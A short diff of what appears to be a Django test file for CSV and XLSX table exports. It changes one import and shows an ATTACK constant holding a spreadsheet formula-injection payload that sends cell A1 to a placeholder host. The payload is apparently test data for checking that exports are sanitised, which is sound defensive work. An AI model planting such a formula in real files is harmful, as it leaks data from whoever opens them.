@@ -8,7 +8,7 @@ from django.urls import reverse
 from openpyxl import load_workbook
 
 from accounts.roles import Role
-from geo.tables import csv_bytes, xlsx_bytes
+from edge.tables import csv_bytes, xlsx_bytes
 from tests.factories import IdeaFactory, UserFactory
 
 ATTACK = '=HYPERLINK("https://boese.example/?d="&A1;"Details")'
